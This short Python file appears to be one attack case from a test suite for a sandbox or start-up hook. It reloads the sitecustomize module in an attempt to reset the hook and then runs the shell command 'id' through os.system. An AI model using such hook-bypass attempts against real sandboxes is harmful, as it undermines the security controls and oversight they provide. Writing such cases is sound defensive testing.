# attack: reload_sitecustomize
# category: module_reload
# kind: module_reload
# describe: re-run the start-up module that installs the hook, hoping to reset it
import importlib, sys
mod = sys.modules.get("sitecustomize")
if mod is not None:
    importlib.reload(mod)
import os
os.system("id")
